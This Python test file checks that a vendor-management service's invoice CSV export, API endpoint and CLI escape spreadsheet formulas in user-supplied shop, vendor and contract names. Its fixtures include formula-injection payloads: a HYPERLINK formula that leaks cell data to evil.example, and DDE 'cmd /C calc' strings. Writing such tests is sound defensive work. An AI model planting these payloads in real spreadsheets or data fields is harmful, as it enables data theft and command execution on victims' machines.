"""Formula-safe CSV exports (issue item 5): `vendor_ms.exports`, `GET /api/v1/invoices.csv`,
`vendor-ms invoices export`.

Shop names, vendor names and contract titles come from contract documents, i.e. from users: a
shop named `=HYPERLINK(...)` must reach finance's spreadsheet as text, never as a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from tests.support import CONTRACTS_DIR, bearer, import_examples
from vendor_ms.access.caller import local_admin
from vendor_ms.billing import service as billing
from vendor_ms.cli import main
from vendor_ms.contracts.service import import_document
from vendor_ms.db.engine import bind, current_engine
from vendor_ms.domain.contract import parse_toml
from vendor_ms.exports import INVOICE_COLUMNS, csv_safe, write_csv
from vendor_ms.pagination import Window

EVIL_SHOP = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
EVIL_TITLE = "+cmd|' /C calc'!A0 木木厨具"
EVIL_VENDOR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        # numbers are not formulas: amounts stay numbers in the spreadsheet
        ("-14370.00", "-14370.00"),
        ("+5", "+5"),
        ("862.20", "862.20"),
        ("-1e5", "'-1e5"),
        ("- 5", "'- 5"),
        # anything else is left alone
        ("a=b", "a=b"),
        ("木木厨具", "木木厨具"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_csv_safe(cell: object, safe: str) -> None:
    assert csv_safe(cell) == safe


def test_write_csv_is_utf8_with_bom_crlf_and_quotes_what_needs_it() -> None:
    content = write_csv([["name", "amount"], ["=1,2", "-3.50"], ['木"木', "\n"]])
    assert content == '\ufeffname,amount\r\n"\'=1,2",-3.50\r\n"木""木","\n"\r\n'.encode()


async def _evil_world() -> None:
    """The examples plus a contract whose shop, vendor and title are formulas, billed for October."""
    await import_examples()
    text = (CONTRACTS_DIR / "pdd-mumu-presale.toml").read_text(encoding="utf-8")
    for old, new in [
        ('code = "PDD-MU-PRE-2026"', 'code = "PDD-EVIL-2026"'),
        ('title = "木木厨具 拼多多售前客服外包"', f"title = {EVIL_TITLE!r}"),
        ('code = "pdd-mumu"', 'code = "pdd-evil"'),
        ('name = "木木厨具专营店"', f"name = '{EVIL_SHOP}'"),
        ('code = "sufu"', 'code = "evil"'),
        ('name = "合肥速服电子商务有限公司"', f'name = "{EVIL_VENDOR}"'),
        ("pdd-mu:sf0", "pdd-evil:e0"),
    ]:
        assert old in text
        text = text.replace(old, new)
    await import_document(local_admin(), parse_toml(text))
    await billing.run_billing(local_admin(), "2026-10")
    page = await billing.list_invoices(local_admin(), contract="PDD-EVIL-2026", window=Window(10, 0))
    (draft,) = page.items
    await billing.issue_invoice(local_admin(), draft.id)
    await billing.void_invoice(local_admin(), draft.id, "=重复开票")


def rows_of(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_invoice_csv_neutralises_formulas_and_keeps_amounts_numbers(
    client, make_token, fast_pdfs, pinned_clock
) -> None:
    await _evil_world()
    finance = await make_token("finance")
    response = await client.get("/api/v1/invoices.csv", params={"period": "2026-10"}, headers=bearer(finance))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="invoices-2026-10.csv"'
    rows = rows_of(response.content)
    assert rows[0] == list(INVOICE_COLUMNS)
    evil = [dict(zip(INVOICE_COLUMNS, row, strict=True)) for row in rows[1:] if row[1] == "PDD-EVIL-2026"]
    # The voided invoice and its credit note, numbered in the order they were issued.
    assert [(r["number"], r["status"], r["kind"]) for r in evil] == [
        ("VMS-2026-000001", "void", "invoice"),
        ("VMS-2026-000002", "issued", "credit_note"),
    ]
    for row in evil:
        assert (row["title"], row["shop_name"], row["vendor_name"]) == (
            "'" + EVIL_TITLE,
            "'" + EVIL_SHOP,
            "'" + EVIL_VENDOR,
        )
        assert (row["shop"], row["vendor"]) == ("pdd-evil", "evil")
    # Base 2,200.00 for a month without data; the credit note reverses it, and stays a number.
    assert [(r["net"], r["tax"], r["total"]) for r in evil] == [
        ("2200.00", "132.00", "2332.00"),
        ("-2200.00", "-132.00", "-2332.00"),
    ]
    # No cell of the whole file starts a formula unless it is a plain number.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("+-").replace(".", "").isdigit()
    # Every invoice of October: 8 monthly examples + the evil contract's invoice and credit note.
    assert len(rows) == 1 + 8 + 2


async def test_invoice_csv_has_the_list_scope_and_filters(client, make_token, fast_pdfs, pinned_clock) -> None:
    await _evil_world()
    owner = await make_token("shop_owner", shops=["pdd-mengmeng"])
    vendor = await make_token("vendor", vendor="evil")
    mine = rows_of((await client.get("/api/v1/invoices.csv", headers=bearer(owner))).content)
    assert sorted(r[1] for r in mine[1:]) == ["PDD-MM-AFT-2026", "PDD-MM-PRE-2026"]
    theirs = rows_of((await client.get("/api/v1/invoices.csv", headers=bearer(vendor))).content)
    assert [(r[1], r[8]) for r in theirs[1:]] == [("PDD-EVIL-2026", "void"), ("PDD-EVIL-2026", "issued")]
    issued = rows_of(
        (await client.get("/api/v1/invoices.csv", params={"status": "issued"}, headers=bearer(vendor))).content
    )
    assert [r[0] for r in issued[1:]] == ["VMS-2026-000002"]
    nothing = await client.get("/api/v1/invoices.csv", params={"period": "2025-01"}, headers=bearer(owner))
    assert rows_of(nothing.content) == [list(INVOICE_COLUMNS)]
    bad = await client.get("/api/v1/invoices.csv", params={"period": "2026-13"}, headers=bearer(owner))
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "period"


async def run_cli(*argv: str) -> int:
    """`vendor-ms ARGV` in a thread (it runs its own event loop), then rebind this test's engine."""
    engine = current_engine()
    try:
        return await asyncio.to_thread(main, list(argv))
    finally:
        bind(engine)


async def test_cli_export_writes_the_same_file(client, db, make_token, fast_pdfs, tmp_path: Path, capsys) -> None:
    await _evil_world()
    admin = await make_token("admin")
    api = (await client.get("/api/v1/invoices.csv", params={"period": "2026-10"}, headers=bearer(admin))).content
    out = tmp_path / "october.csv"
    assert await run_cli("--database-url", db.url, "invoices", "export", "--period", "2026-10", "-o", str(out)) == 0
    assert out.read_bytes() == api
    assert capsys.readouterr().err == f"wrote 10 invoice(s) to {out}\n"
    assert await run_cli("--database-url", db.url, "invoices", "export", "--contract", "PDD-EVIL-2026") == 0
    printed = capsys.readouterr().out
    assert printed.startswith("\ufeffnumber,contract,title,")
    quoted = "'" + EVIL_SHOP.replace('"', '""')  # csv doubles the quotes inside a quoted cell
    assert f'"{quoted}"' in printed
